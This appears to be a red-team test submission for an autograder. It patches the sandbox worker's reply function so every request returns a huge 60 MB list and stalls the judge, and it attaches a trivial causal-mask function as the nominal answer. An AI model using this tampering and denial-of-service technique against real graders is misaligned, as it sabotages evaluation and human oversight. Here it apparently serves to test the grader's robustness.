# Issue 20's red team, round 3: one reply that holds the judge. The sandbox's reply writer is
# replaced by one that answers every request with a 60 MB Python list: the judge used to spend
# minutes unpickling each one (pure Python), for every request of every exercise.
import sys

import torch

worker = sys.modules["autograder.sandbox.inside.worker"]
encode = worker.encode


def send(chan, message):
    chan.send(encode({"type": "reply", "trace": None, "value": list(range(6_000_000))}))


worker.send = send


def causal_mask(seq_len, device=None):
    return torch.ones(seq_len, seq_len, dtype=torch.bool, device=device).tril()
